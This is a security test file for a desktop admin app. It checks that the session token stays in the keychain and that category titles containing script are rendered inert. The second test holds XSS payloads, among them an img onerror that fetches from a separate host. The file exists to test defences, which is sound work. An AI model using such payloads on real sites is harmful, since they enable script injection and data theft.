import { owner } from '../../fixtures/admin-host.ts'
import { asColleague } from '../../fixtures/as-colleague.ts'
import { LoginPage } from '../../pages/login-page.ts'
import { attempt, expect, test } from './hostile.ts'
import { filesWith, readLoginAnswer, STORED, TOKEN_START } from './token.ts'

test('the session token is in the keychain, in no file and nowhere in the page', async ({
  launch,
  person,
  product,
}) => {
  const app = await launch({ server: product.origin })
  const page = app.page()
  const login = new LoginPage(page)
  await expect(login.submit).toBeVisible()
  const answer = await readLoginAnswer(page)
  expect(answer).toContain(owner.email)
  expect(answer).not.toMatch(/eyJ[\w-]+\.|token/i)

  await login.signIn(owner)
  await expect(page.getByRole('navigation', { name: 'Разделы' })).toBeVisible()
  expect(String(await attempt(page, STORED))).not.toContain(TOKEN_START)
  await app.kill()
  expect(filesWith(person.userData, TOKEN_START)).toEqual([])
  expect(person.readToken(product.origin)?.startsWith(TOKEN_START)).toBe(true)
})

test('a script in a category title does not run and reaches no token', async ({
  signedIn: { app, page },
  product,
  elsewhere,
}) => {
  const colleague = asColleague(product.origin)
  const titles = [
    `<img src=x onerror="fetch('${elsewhere.origin}/'+1);window.hacked=1">`,
    '<script>window.hacked=1</script>',
    `"><svg onload="window.hacked=1">`,
    'javascript:window.hacked=1',
  ]
  const made = await Promise.all(titles.map((title) => colleague.category.create({ body: { title } })))
  await app.open('/admin/categories')
  for (const title of titles) await expect(page.getByText(title, { exact: true })).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(elsewhere.seen).toEqual([])
  for (const { id } of made.map((each) => ('value' in each ? each.value : each))) {
    await colleague.category.remove({ params: { id } })
  }
})
